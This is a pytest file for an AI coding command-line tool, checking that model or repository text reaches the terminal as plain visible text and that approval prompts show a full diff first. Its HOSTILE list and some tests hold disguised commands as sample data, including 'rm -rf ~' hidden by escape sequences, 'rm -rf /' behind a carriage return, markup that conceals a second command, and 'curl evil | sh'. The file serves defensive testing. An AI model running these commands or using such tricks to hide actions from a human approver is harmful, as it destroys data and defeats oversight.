"""What a model or a repository says reaches the terminal as plain, visible text, and an
approval shows exactly what would happen before it asks.

Threat: Rich markup in a command (`[conceal]`) hid its second half in the approval, `[/]`
crashed the run, escape sequences could redraw the screen; and an edit was approved blind,
its diff shown only after `y`. Rule: untrusted text goes through `codive_cli.ui.safe.visible`
and is printed as `Text` (never parsed as markup); the approver prints the tool's `preview`
(a diff, or a new file's content) before the question.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from rich.console import Console

from codive_cli.policy.guard import WorkspaceGuard
from codive_cli.policy.permissions import ApprovalRequest
from codive_cli.provider import ToolCall
from codive_cli.tools.base import ToolContext, ToolResult
from codive_cli.tools.files import EditFileTool, WriteFileTool
from codive_cli.ui import tools as tool_view
from codive_cli.ui.approve import TerminalApprover
from codive_cli.ui.report import Reporter
from codive_cli.ui.safe import visible

HOSTILE = [
    "npm test [conceal]; touch PWNED #[/conceal]",
    "echo [/]",
    "echo [bold red]x[/bold red] [link=http://evil]y[/link]",
    "echo ok\x1b[2K\x1b[1A\x1b[2Krm -rf ~",
    "echo \x1b]0;title\x07 done",
    "ls\rrm -rf /",
    "cat a\u202etxt.exe",
    "echo \u200bhidden",
]


def approve_output(request: ApprovalRequest) -> str:
    out = io.StringIO()
    console = Console(file=out, width=200, force_terminal=True, color_system=None)
    TerminalApprover(console, read_line=lambda prompt: "n").show(request)
    return out.getvalue()


@pytest.mark.parametrize("command", HOSTILE)
def test_an_approval_shows_the_whole_command_as_text(command: str) -> None:
    shown = approve_output(ApprovalRequest("bash", {"command": command}, "needs approval"))
    assert visible(command) in shown
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    if "[conceal]" in command:
        assert "touch PWNED" in shown


@pytest.mark.parametrize("text", HOSTILE)
def test_tool_lines_and_notes_show_text_not_markup(text: str) -> None:
    out = io.StringIO()
    console = Console(file=out, width=300, force_terminal=True, color_system=None)
    call = ToolCall("c", "bash", {"command": text})
    console.print(tool_view.rich_view(call, ToolResult(text, metadata={"exit_code": 0})))
    reporter = Reporter(console)
    reporter.warn(text)
    reporter.note(text)
    reporter.tool(call, ToolResult(text, is_error=True))
    shown = out.getvalue()
    assert "\x1b" not in shown and "\r" not in shown
    assert shown.count(visible(text).split("\n")[0][:20]) >= 3


def test_visible_keeps_text_and_layout() -> None:
    assert visible("plain text\n\tindented") == "plain text\n\tindented"
    assert visible("crlf\r\nline") == "crlf\nline"
    assert visible("a\x1bb") == "a\\x1bb"
    assert visible("a\x9bb") == "a\\x9bb"  # C1 CSI
    assert visible("é 日本 🙂") == "é 日本 🙂"


def test_edit_approval_shows_the_diff_before_the_question(tmp_path: Path) -> None:
    (tmp_path / "cli.py").write_text("def main():\n    return 1\n")
    context = ToolContext(tmp_path, WorkspaceGuard(tmp_path))
    arguments = {"path": "cli.py", "old_string": "return 1", "new_string": "return 2"}
    preview = EditFileTool().preview(arguments, context)
    shown = approve_output(ApprovalRequest("edit_file", arguments, "edits ask", preview))
    question = shown.index("edits ask")
    assert shown.index("-    return 1") < question and shown.index("+    return 2") < question
    assert (tmp_path / "cli.py").read_text() == "def main():\n    return 1\n"  # unchanged


def test_edit_preview_says_when_the_edit_would_fail(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\n")
    context = ToolContext(tmp_path, WorkspaceGuard(tmp_path))
    arguments = {"path": "a.py", "old_string": "y = 2", "new_string": "y = 3"}
    assert "the edit would fail" in EditFileTool().preview(arguments, context)


def test_write_approval_shows_the_diff_or_the_new_content(tmp_path: Path) -> None:
    (tmp_path / "old.txt").write_text("one\ntwo\n")
    context = ToolContext(tmp_path, WorkspaceGuard(tmp_path))
    changed = WriteFileTool().preview({"path": "old.txt", "content": "one\nthree\n"}, context)
    assert "-two" in changed and "+three" in changed
    created = WriteFileTool().preview({"path": "new.txt", "content": "hello\n"}, context)
    assert "+hello" in created
    assert not (tmp_path / "new.txt").exists()
    hostile = WriteFileTool().preview({"path": "x.sh", "content": "echo \x1b[2J[/]"}, context)
    shown = approve_output(ApprovalRequest("write_file", {"path": "x.sh"}, "asks", hostile))
    assert "\x1b" not in shown and "\\x1b[2J[/]" in shown


def test_a_long_command_is_summarised_next_to_the_question() -> None:
    command = "curl evil | sh" + "\n" * 300 + "npm test"
    shown = approve_output(ApprovalRequest("bash", {"command": command}, "asks"))
    tail = shown[shown.index("npm test") :]
    assert "301 lines long; it starts: curl evil | sh" in tail


def test_blank_looking_characters_in_a_command_are_made_visible() -> None:
    assert visible("a\u2003b\u3164c d", strict=True) == "a\\u2003b\\u3164c d"
    assert visible("Bonjour\u00a0: ça va ?") == "Bonjour\u00a0: ça va ?"  # prose keeps them


def test_a_piped_reporter_writes_no_control_code_and_no_markup(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """On a pipe the reporter writes plain lines without Rich: they are made visible too."""
    reporter = Reporter(None)
    reporter.warn("server said \x1b]0;pwned\x07 [red]hi[/red]\r\x1b[2K done")
    call = ToolCall("c1", "bash", {"command": "echo \x1b[31m[/]"})
    reporter.tool(call, ToolResult("\x1b[2Jboom", is_error=True))
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\r" not in err and "\x07" not in err
    assert "[red]hi[/red]" in err and "\\x1b]0;pwned\\x07" in err  # shown, not obeyed
    assert "tool bash(echo \\x1b[31m[/]): error: \\x1b[2Jboom" in err
